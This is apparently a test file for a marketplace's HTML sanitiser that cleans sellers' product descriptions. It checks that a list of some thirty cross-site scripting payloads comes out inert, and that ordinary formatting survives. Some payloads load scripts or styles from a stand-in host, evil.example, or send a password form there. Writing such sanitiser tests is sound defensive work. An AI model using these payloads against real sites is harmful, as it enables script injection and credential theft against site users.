import { globSync, readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { safeHtml } from '#lib/rich-text.ts'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=9></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0" target=_top>x</a>',
  '<p style="background:url(javascript:alert(1))" class="fixed" id="content">x</p>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p><img """><script>alert(1)</script>">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x',
  '<xss-element onpointerrawupdate=alert(1)>x</xss-element>',
  '</div></section><h1>Pay here</h1><script>alert(1)</script>',
]

const TAG = /<\/?([a-z][^\s/>]*)([^>]*)>/gi
const SAFE_TAG = /^(p|br|h3|ul|ol|li|blockquote|strong|b|em|i|u|s|sub|sup|a|table|thead|tbody|tr|th|td)$/
const SAFE_ATTRIBUTES = /^(| href="(https?:|mailto:)[^"]*"| rel="nofollow ugc noopener"| \/)*$/

describe("a seller's description", () => {
  test.each(PAYLOADS)('contains nothing executable: %s', payload => {
    for (const html of [safeHtml(payload), safeHtml(`<p>Before</p>${payload}<p>After</p>`)]) {
      for (const [, name, attributes] of html.matchAll(TAG)) {
        expect(name).toMatch(SAFE_TAG)
        expect(attributes).toMatch(SAFE_ATTRIBUTES)
      }
      expect(html).not.toMatch(/alert\(1\)<\/script|javascript:|vbscript:|evil\.example/i)
    }
  })

  test('is unchanged when it is cleaned twice', () => {
    for (const payload of PAYLOADS) {
      const once = safeHtml(`<p>Before</p>${payload}`)
      expect(safeHtml(once)).toBe(once)
    }
  })

  test('keeps its text, lists, tables and links', () => {
    const html = '<p>A <strong>warm</strong> coat</p><ul><li>Wool</li></ul><a href="https://care.example">Care</a>'

    expect(safeHtml(html)).toBe(
      '<p>A <strong>warm</strong> coat</p><ul><li>Wool</li></ul><a href="https://care.example" rel="nofollow ugc noopener">Care</a>',
    )
  })

  test('has its headings lowered below the heading of the page', () => {
    expect(safeHtml('<h1>Size</h1><h2>Fit</h2><h6>Care</h6>')).toBe('<h3>Size</h3><h3>Fit</h3><h3>Care</h3>')
  })

  test('leaves out empty paragraphs', () => {
    expect(safeHtml('<p> </p><p>Words</p><h2></h2>')).toBe('<p>Words</p>')
  })

  test('becomes paragraphs when it is plain text', () => {
    expect(safeHtml('One\nline & two < three\n\nAnother')).toBe(
      '<p>One<br />line &amp; two &lt; three</p><p>Another</p>',
    )
  })

  test('closes open elements, however deep', () => {
    expect(safeHtml('<ul><li><b>x')).toBe('<ul><li><b>x</b></li></ul>')
    expect(safeHtml('<blockquote>'.repeat(5000)).length).toBeLessThan(2000)
  })
})

test('raw HTML is set only in the known components', () => {
  const raw = globSync('src/**/*.{astro,ts,tsx}').filter(file =>
    /set:html|dangerouslySetInnerHTML|\.innerHTML\b/.test(readFileSync(file, 'utf8')),
  )

  const components = ['ui/DataScript', 'ui/Icon', 'ui/LayoutStep', 'ui/RichText'].map(
    name => `src/components/${name}.astro`,
  )
  expect(raw.toSorted()).toEqual([...components, 'src/pages/[policy].astro'])
})
